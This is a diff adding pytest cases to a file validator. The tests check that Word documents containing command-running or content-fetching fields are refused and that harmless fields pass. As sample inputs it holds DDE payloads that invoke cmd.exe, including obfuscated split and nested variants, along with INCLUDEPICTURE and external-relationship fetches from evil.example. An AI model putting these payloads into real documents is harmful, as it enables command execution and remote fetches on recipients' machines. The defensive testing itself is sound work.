@@ -109,6 +109,31 @@ def test_entities_in_office_files_are_refused_before_they_are_read(tmp_path):
     assert flaw_of(tmp_path, samples.packed(parts)) == Flaw.ENTITIES
 
 
+@pytest.mark.parametrize(
+    "body",
+    [
+        "<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r></w:p>",
+        "<w:p><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>E cmd</w:instrText></w:r></w:p>",
+        '<w:p><w:r><w:instrText>IF 1 = </w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        "<w:r><w:instrText>DDE cmd</w:instrText></w:r></w:p>",
+        '<w:p><w:fldSimple w:instr="INCLUDEPICTURE https://evil.example/x.png"/></w:p>',
+    ],
+)
+def test_fields_that_run_or_fetch_are_refused(tmp_path, body):
+    assert flaw_of(tmp_path, samples.docx(body=body)) == Flaw.OUTSIDE
+
+
+def test_fields_that_count_pages_are_not(tmp_path):
+    link = '<w:r><w:instrText>HYPERLINK "https://example.org/import/database"</w:instrText></w:r>'
+    body = f"<w:p><w:r><w:instrText>PAGE</w:instrText></w:r>{link}<w:r><w:t>DDE is a word</w:t></w:r></w:p>"
+    assert looked(tmp_path, samples.docx(body=body)) == "docx"
+
+
+def test_a_picture_that_is_fetched_is_refused(tmp_path):
+    told = f'Type="{samples.RELATIONS}/image" Target="https://evil.example/x.png" TargetMode="External"'
+    assert flaw_of(tmp_path, samples.docx(relations=f'<Relationship Id="x" {told}/>')) == Flaw.OUTSIDE
+
+
 def test_an_office_file_that_fetches_something_is_refused_and_one_with_a_link_is_not(tmp_path):
     relation = '<Relationship Id="x" Type="{}/{}" Target="https://evil.example/t.dotm" TargetMode="External"/>'
     fetching = samples.docx(relations=relation.format(samples.RELATIONS, "attachedTemplate"))
